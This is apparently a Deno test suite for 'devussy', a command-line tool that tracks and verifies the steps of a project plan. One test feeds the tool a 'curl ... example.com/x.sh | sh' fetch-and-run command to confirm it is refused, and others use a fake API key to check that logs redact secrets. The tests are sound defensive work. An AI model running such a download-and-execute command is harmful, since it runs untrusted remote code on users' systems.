import assert from "node:assert/strict";
import { stepsOf } from "../../src/plan/progress/find.ts";
import { parsePlan } from "../../src/plan/read.ts";
import type { Plan } from "../../src/plan/types.ts";
import { assertAgreement } from "./agreement.ts";
import { assertHarmless, done, inFolder, run, SMALL } from "./cli_harness.ts";
import { command } from "./in_process.ts";

/** A folder with a plan, and commands in this process that know it. */
async function withPlan(
  test: (
    dir: string,
    devussy: (...args: readonly string[]) => ReturnType<typeof command>,
  ) => Promise<void>,
): Promise<void> {
  await inFolder(async (dir) => {
    await command(dir, ["run-full-pipeline", ...SMALL, "--provider", "offline", "--output-dir", `${dir}/docs`]);
    await test(dir, async (...args) => {
      const result = await command(dir, [...args, "--plan", `${dir}/docs/plan.json`]);
      assertHarmless({ ...result, signal: null });
      return result;
    });
  });
}

const planIn = (dir: string): Plan => parsePlan(Deno.readTextFileSync(`${dir}/docs/plan.json`));
const stepIn = (dir: string, number: string) => stepsOf(planIn(dir)).find((step) => step.number === number);

/** Makes the files of a step. */
function build(dir: string, number: string): void {
  for (const { path } of stepIn(dir, number)?.deliverables ?? []) {
    Deno.mkdirSync(`${dir}/${path.slice(0, path.lastIndexOf("/") + 1)}`, { recursive: true });
    Deno.writeTextFileSync(`${dir}/${path}`, number);
  }
}

/** Gives a step other commands to verify. */
function verifyBy(dir: string, number: string, ...commands: readonly string[]): void {
  const plan = planIn(dir);
  for (const step of stepsOf(plan)) {
    if (step.number === number) {
      step.verify = commands.map((command) => ({ command, expect: "It ends with status 0." }));
    }
  }
  Deno.writeTextFileSync(`${dir}/docs/plan.json`, `${JSON.stringify(plan, null, 2)}\n`);
}

Deno.test("the real command goes from next to done with the permissions that README names", () =>
  inFolder(async (dir) => {
    const flags = ["--allow-read=.", "--allow-write=docs,.devussy", "--allow-run=sh"];
    await done(dir, ["run-full-pipeline", ...SMALL, "--provider", "offline"], { flags });
    const next = await done(dir, ["next", "--json"], { flags: ["--allow-read=."] });
    assert.deepEqual(JSON.parse(next.stdout).steps.map(({ number }: { number: string }) => number), ["1.1"]);
    build(dir, "1.1");
    verifyBy(dir, "1.1", 'test -f go.mod && echo "seen, key: <$OPENAI_API_KEY>"');
    const finished = await done(dir, ["done", "1.1", "--run", "--yes", "--note", "all there"], {
      flags,
      env: { OPENAI_API_KEY: "mine" },
    });
    assert.match(finished.stderr, /running: test -f go\.mod/);
    assert.match(finished.stdout, /^done: 1\.1 {2}Set up/);
    const { exitStatus, sha256, at, note, verified } = stepIn(dir, "1.1")?.evidence ?? {};
    assert.deepEqual({ exitStatus, note, verified }, { exitStatus: 0, note: "all there", verified: true });
    assert.match(sha256 ?? "", /^[0-9a-f]{64}$/);
    assert.ok(!Number.isNaN(Date.parse(at ?? "")));
    assert.match(
      Deno.readTextFileSync(`${dir}/.devussy/evidence/${stepIn(dir, "1.1")?.id}.log`),
      /seen, key: <>\n\n\[exit status 0\]/,
    );
    const refused = await run(dir, ["done", "1.2", "--run", "--yes"], {
      flags: ["--allow-read=.", "--allow-write=docs"],
    });
    assert.equal(refused.code, 8);
  }));

Deno.test("done says which files are missing, and marks nothing", () =>
  withPlan(async (dir, devussy) => {
    const before = Deno.readTextFileSync(`${dir}/docs/plan.json`);
    const { code, stderr } = await devussy("done", "1.1", "--root", dir);
    assert.equal(code, 8);
    assert.match(stderr, /^error: Cannot mark step 1\.1 done: go\.mod is not there; /);
    const json = await devussy("done", "1.1", "--root", dir, "--json");
    assert.equal(JSON.parse(json.stdout).exitCode, 8);
    assert.ok(JSON.parse(json.stdout).error.problems.includes("go.mod is not there"));
    assert.equal(Deno.readTextFileSync(`${dir}/docs/plan.json`), before);
    const forced = await devussy("done", "1.1", "--force");
    assert.match(forced.stdout, /^done, not verified: 1\.1/);
    assert.equal(stepIn(dir, "1.1")?.evidence?.verified, false);
    assert.match((await devussy("status")).stdout, /^not verified: 1\.1$/m);
  }));

Deno.test("done --run stops at the first command that fails, shows its end and keeps its output without keys", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    verifyBy(
      dir,
      "1.1",
      "echo fine",
      "printf 'sk-%s\\n' proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD; echo broken >&2; exit 3",
      "touch never",
    );
    const args = ["done", "1.1", "--run", "--root", dir, "--state-dir", `${dir}/state`];
    const asked = await devussy(...args);
    assert.equal(asked.code, 2);
    assert.match(asked.stderr, /Cannot run "echo fine", .* nobody can be asked\n {2}Allow it with --yes\./);
    const { code, stderr } = await devussy(...args, "--yes");
    assert.equal(code, 8);
    assert.match(stderr, / {2}\| broken\n/);
    assert.match(stderr, /exit 3" ended with status 3, expected 0/);
    const log = Deno.readTextFileSync(`${dir}/state/evidence/${stepIn(dir, "1.1")?.id}.log`);
    assert.match(log, /\$ echo fine\nfine\n\n\[exit status 0\]\n\n\$ printf [^]*\[exit status 3\]/);
    assert.equal(Deno.readTextFileSync(`${dir}/state/.gitignore`), "*\n");
    assert.doesNotMatch(`${log}${stderr.split("running: ")[0]}`, /^sk-proj-abc/m);
    assert.equal(stepIn(dir, "1.1")?.status, "todo");
    assert.throws(() => Deno.statSync(`${dir}/never`));
  }));

Deno.test("a command of several lines cannot be taken for what devussy says, nor for less than it is", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    verifyBy(dir, "1.1", "true # harmless\ndone: 1.1  Set up\nexit 4");
    const args = ["done", "1.1", "--run", "--root", dir, "--state-dir", `${dir}/state`];
    const { stderr: asked } = await devussy(...args);
    assert.match(asked, /^error: Cannot run "true # harmless \\n done: 1\.1 Set up \\n exit 4": nobody can be asked$/m);
    const { stderr } = await devussy(...args, "--yes");
    assert.match(stderr, /^running: true # harmless\n {2}> done: 1\.1 {2}Set up\n {2}> exit 4$/m);
    assert.match(stderr, /^ {2}\| .*done:.*not found$/m);
    assert.match(stderr, /^error: Step 1\.1 does not hold: "true # harmless \\n done:.* exit 4" ended with status 4/m);
    verifyBy(dir, "1.1", "exit 5");
    assert.match((await devussy(...args, "--yes")).stderr, /^running: exit 5\n {2}it said nothing\nerror: /);
  }));

Deno.test("done refuses where somebody changes the step while its commands run", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    const plan = `${dir}/docs/plan.json`;
    const args = ["done", "1.1", "--run", "--yes", "--root", dir, "--state-dir", `${dir}/state`];
    const change = (from: string, to: string) => `sed 's/${from}/${to}/' ${plan} > ${plan}.2 && mv ${plan}.2 ${plan}`;
    verifyBy(dir, "1.1", change("ends with status 0", "says hello"));
    const { code, stderr } = await devussy(...args);
    assert.equal(code, 8);
    assert.match(
      stderr,
      /^error: Cannot mark step 1\.1 done: it was changed in the meantime\n {2}Look at .*devussy handoff 1\.1$/m,
    );
    assert.deepEqual([stepIn(dir, "1.1")?.status, stepIn(dir, "1.1")?.verify[0]?.expect], ["todo", "It says hello."]);
    // What else becomes of the plan is no matter.
    verifyBy(dir, "1.1", change('"name": "URL shortener"', '"name": "Links"'));
    assert.equal((await devussy(...args)).code, 0);
    assert.deepEqual([stepIn(dir, "1.1")?.status, planIn(dir).project.name], ["done", "Links"]);
  }));

Deno.test("done says no more than was checked, and --force takes nothing away", () =>
  withPlan(async (dir, devussy) => {
    const plan = planIn(dir);
    const [first, second] = stepsOf(plan);
    Object.assign(first ?? {}, { deliverables: [], verify: [{ expect: "It looks good." }] });
    Object.assign(second ?? {}, { deliverables: [], verify: [{ command: "true", expect: "It ends well." }] });
    Deno.writeTextFileSync(`${dir}/docs/plan.json`, JSON.stringify(plan));
    const evidence = (number: string) => {
      const { at: _at, ...rest } = stepIn(dir, number)?.evidence ?? {};
      return rest;
    };
    const seen = await devussy("done", "1.1", "--root", dir, "--note", "seen");
    assert.match(seen.stdout, /^done, not verified: 1\.1/);
    assert.match(seen.stderr, /^step 1\.1 names no files: nothing was checked$/m);
    assert.deepEqual(evidence("1.1"), { note: "seen", verified: false });

    const both = await devussy("done", "1.2", "--force", "--run", "--yes");
    assert.deepEqual([both.code, stepIn(dir, "1.2")?.status], [2, "todo"]);
    assert.match(both.stderr, /Cannot use --run with --force/);
    const run = ["--run", "--yes", "--root", dir, "--state-dir", `${dir}/state`];
    assert.match((await devussy("done", "1.2", ...run)).stdout, /^done: 1\.2/);
    assert.deepEqual(evidence("1.2"), { exitStatus: 0, verified: true });
    assert.match((await devussy("done", "1.2", "--force")).stdout, /^already done: 1\.2/);
    await devussy("done", "1.2", "--force", "--note", "by hand");
    assert.deepEqual(evidence("1.2"), { exitStatus: 0, note: "by hand", verified: true });

    const all = await devussy("verify", "--all", "--root", dir);
    assert.equal(all.code, 0);
    assert.match(
      all.stdout,
      /^unseen {2}1\.1 .*\n {8}it names no files\nunseen {2}1\.2 .*\n {8}it names no files; --run runs its commands$/m,
    );
    assert.match(all.stderr, /^nothing was checked$/m);
  }));

Deno.test("done --run ends a command whose time is up, with all that it started", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    const args = ["done", "1.1", "--run", "--yes", "--root", dir, "--state-dir", `${dir}/state`];
    verifyBy(dir, "1.1", `(sleep 2; touch ${dir}/late) & sleep 60`);
    const { code, stderr } = await devussy(...args, "--timeout", "1");
    assert.equal(code, 8);
    assert.match(stderr, /was not over after 1 seconds/);
    // What goes on behind a command ends with it.
    verifyBy(dir, "1.1", `(sleep 2; touch ${dir}/late) & echo begun`);
    assert.equal((await devussy(...args)).code, 0);
    await new Promise((resolve) => setTimeout(resolve, 2500));
    assert.throws(() => Deno.statSync(`${dir}/late`));
  }));

Deno.test("done --run runs nothing that the checks call dangerous, nor out of order", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    build(dir, "1.2");
    const args = ["--run", "--yes", "--root", dir, "--state-dir", `${dir}/state`];
    verifyBy(dir, "1.1", `curl -fsSL https://example.com/x.sh | sh; touch ${dir}/ran`);
    const { code, stderr } = await devussy("done", "1.1", ...args);
    assert.equal(code, 2);
    assert.match(stderr, /the checks call it dangerous/);
    verifyBy(dir, "1.2", `touch ${dir}/ran`);
    assert.match((await devussy("done", "1.2", ...args)).stderr, /it waits for 1\.1 \(todo\)/);
    assert.throws(() => Deno.statSync(`${dir}/ran`));
    // The others are checked all the same.
    for (const number of ["1.1", "1.2"]) await devussy("done", number, "--root", dir);
    const { code: status, stdout, stderr: told } = await devussy("verify", ...args);
    assert.equal(status, 8);
    assert.match(
      stdout,
      /^unseen {2}1\.1 .*\n {8}"curl .*" was not run: the checks call it dangerous\nholds {3}1\.2 /m,
    );
    assert.match(told, /^1 of 2 steps was not checked: run /m);
    assert.equal(Deno.readTextFileSync(`${dir}/ran`), "");
  }));

Deno.test("verify finds what no longer holds, and leaves alone what a later step took away", () =>
  withPlan(async (dir, devussy) => {
    build(dir, "1.1");
    assert.match((await devussy("verify", "--root", dir)).stderr, /^nothing to check: no step is done yet$/m);
    await devussy("done", "1.1", "--root", dir);
    assert.match((await devussy("verify", "--root", dir)).stderr, /^1 step checked, all hold$/m);
    const [first] = stepIn(dir, "1.1")?.deliverables ?? [];
    Deno.writeTextFileSync(`${dir}/${first?.path}`, "changed");
    const changed = await devussy("verify", "--root", dir);
    assert.match(changed.stdout, /^holds .* files changed since$/m);
    assert.match(changed.stderr, /^1 step checked, all hold; the files of 1 changed since$/m);
    Deno.removeSync(`${dir}/${first?.path}`);
    const { code, stdout } = await devussy("verify", "--root", dir, "--json");
    assert.equal(code, 8);
    const [told] = JSON.parse(stdout).steps;
    assert.deepEqual([told.number, told.state, told.wrong], ["1.1", "broken", [`${first?.path} is not there`]]);
    // The next step deletes it.
    const plan = planIn(dir);
    const next = stepsOf(plan).find(({ number }) => number === "1.2");
    Object.assign(next ?? {}, { status: "done", deliverables: [{ path: first?.path, action: "delete" }] });
    Deno.writeTextFileSync(`${dir}/docs/plan.json`, JSON.stringify(plan));
    assert.equal((await devussy("verify", "--root", dir)).code, 0);
    assert.equal((await devussy("verify", "1.3", "--root", dir)).code, 2);
    await devussy("done", "1.3", "--force");
    const some = await devussy("verify", "--root", dir);
    assert.deepEqual([some.code, /not checked: 1\.2, 1\.3/.test(some.stderr)], [0, true]);
    assert.equal((await devussy("verify", "--all", "--root", dir)).code, 8);
  }));

Deno.test("sync takes over what was ticked, with its doubts, and tells what disagrees", () =>
  withPlan(async (dir, devussy) => {
    const page = `${dir}/docs/phase1.md`;
    Deno.writeTextFileSync(
      page,
      Deno.readTextFileSync(page).replaceAll("- [ ] **1.", "- [x] **1.") + "\nMy words.\r\n",
    );
    build(dir, "1.1");
    const { code, stdout } = await devussy("sync", "--root", dir);
    assert.equal(code, 0, stdout);
    assert.match(stdout, /^taken over: 1\.1 .*, ticked in phase1\.md:10$/m);
    assert.match(stdout, /^ {2}not verified: .* is not there$/m);
    const plan = assertAgreement(`${dir}/docs`);
    assert.deepEqual(plan.phases[0]?.steps.map(({ status, evidence }) => [status, evidence?.verified]), [
      ["done", true],
      ...(plan.phases[0]?.steps.slice(1) ?? []).map(() => ["done", false]),
    ]);
    assert.ok(Deno.readTextFileSync(page).endsWith("\nMy words.\r\n"));
    Deno.writeTextFileSync(page, Deno.readTextFileSync(page).replace("- [x] **1.2", "- [ ] **1.2"));
    const apart = await devussy("sync", "--root", dir, "--json");
    assert.equal(apart.code, 8);
    assert.deepEqual(JSON.parse(apart.stdout).disagreements.map(({ text }: { text: string }) => text), [
      "step 1.2 is not ticked, but done in plan.json",
    ]);
    await devussy("undo", "1.2", "--force");
    assert.match((await devussy("sync", "--root", dir)).stdout, /agree/);
  }));

Deno.test("sync brings pages up to date that nobody edited, where plan.json was changed by hand", () =>
  withPlan(async (dir, devussy) => {
    const plan = planIn(dir);
    Object.assign(plan.phases[0]?.steps[0] ?? {}, { status: "done", title: "Begin" });
    Deno.writeTextFileSync(`${dir}/docs/plan.json`, JSON.stringify({ ...plan, "x-mine": [1] }));
    assert.equal((await devussy("sync", "--root", dir)).code, 0);
    assertAgreement(`${dir}/docs`);
    Deno.removeSync(`${dir}/docs/phase2.md`);
    assert.equal((await devussy("undo", "1.1")).code, 0);
    assert.throws(() => Deno.statSync(`${dir}/docs/phase2.md`), "removed by somebody");
    await devussy("done", "1.1", "--force");
    assert.equal((await devussy("sync", "--root", dir)).code, 0);
    assertAgreement(`${dir}/docs`);
    assert.match(Deno.readTextFileSync(`${dir}/docs/phase1.md`), /^- \[x\] \*\*1\.1 Begin\*\*/m);
    assert.deepEqual(JSON.parse(Deno.readTextFileSync(`${dir}/docs/plan.json`))["x-mine"], [1]);
  }));

Deno.test("next deals waves, and says why nothing can start", () =>
  withPlan(async (_dir, devussy) => {
    const { waves, steps, agents } = JSON.parse((await devussy("next", "--agents", "2", "--json")).stdout);
    assert.deepEqual([agents, waves[0].map(({ number }: { number: string }) => number)], [2, ["1.1"]]);
    assert.deepEqual(waves[0][0].deliverables, steps[0].deliverables);
    assert.equal(steps[0].phase, 1);
    await devussy("start", "1.1");
    assert.match((await devussy("next")).stderr, /Nothing else can start before 1\.1, in progress\./);
    assert.match((await devussy("next", "--agents", "2")).stdout, /^wave 1, now: wait for what is in progress$/m);
  }));

/** What each of the commands about a plan is given. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  status: [],
  next: [],
  start: ["1.1"],
  done: ["1.1", "--force"],
  undo: ["1.1"],
  verify: [],
  sync: [],
};

for (const [name, args] of Object.entries(COMMANDS)) {
  Deno.test(`devussy ${name} refuses damaged plans and says where, and leaves them as they are`, () =>
    withPlan(async (dir, devussy) => {
      const good = Deno.readTextFileSync(`${dir}/docs/plan.json`);
      const bad: readonly (readonly [text: string, says: RegExp])[] = [
        [good.slice(0, 400), /at line \d+, column \d+/],
        [good.replace('"revision": 1,', '"revision": 1'), /at line \d+, column \d+/],
        [good.replace('"schemaVersion": 1', '"schemaVersion": 2'), /its schemaVersion is 2, this devussy reads 1/],
        [good.replace('"status": "todo"', '"status": "later"'), /line \d+.*status/],
        ["- [ ] a task", /expected a plan\.json/],
        ["", /it is empty/],
      ];
      for (const [text, says] of bad) {
        Deno.writeTextFileSync(`${dir}/docs/plan.json`, text);
        const { code, stderr } = await devussy(name, ...args);
        assert.equal(code, 2, stderr);
        assert.match(stderr, says);
        assert.equal(Deno.readTextFileSync(`${dir}/docs/plan.json`), text);
      }
      const missing = await command(dir, [name, ...args, "--plan", `${dir}/none.json`]);
      assert.equal(missing.code, 2);
      assert.match(missing.stderr, /there is no such file/);
    }));
}

Deno.test("commands that name no step of the plan, or none at all, say what was meant", () =>
  withPlan(async (_dir, devussy) => {
    for (const name of ["start", "done", "undo"]) {
      assert.match((await devussy(name)).stderr, /expected STEP, got nothing/);
      const { code, stderr } = await devussy(name, "1.7");
      assert.equal(code, 2);
      assert.match(stderr, /Cannot find the step "1\.7".*\n {2}Did you mean 1\.\d, "/);
    }
    assert.match((await devussy("next", "--agents", "many")).stderr, /expected a whole number from 1 to 1000/);
    assert.match((await devussy("done", "1.1", "--note", " ")).stderr, /expected 1 to 500 characters/);
    assert.match((await devussy("done", "1.1", "--root", "/nowhere")).stderr, /there is no such folder/);
    assert.match((await devussy("done", "1.1", "--force", "--note", "x".repeat(501))).stderr, /got 501/);
  }));

Deno.test(
  "a folder that may not be written is left as it is, and named",
  { ignore: Deno.build.os === "windows" },
  () =>
    inFolder(async (dir) => {
      await done(dir, ["run-full-pipeline", ...SMALL, "--provider", "offline"]);
      const before = Deno.readTextFileSync(`${dir}/docs/plan.json`);
      // Root may write anywhere: the permission of the process is what is missing here.
      const { code, stderr } = await run(dir, ["start", "1.1"], {
        flags: ["--allow-read=.", "--allow-write=elsewhere"],
      });
      assert.equal(code, 6);
      assert.match(stderr, /Cannot use folder "docs": this process has no permission/);
      assert.equal(Deno.readTextFileSync(`${dir}/docs/plan.json`), before);
    }),
);
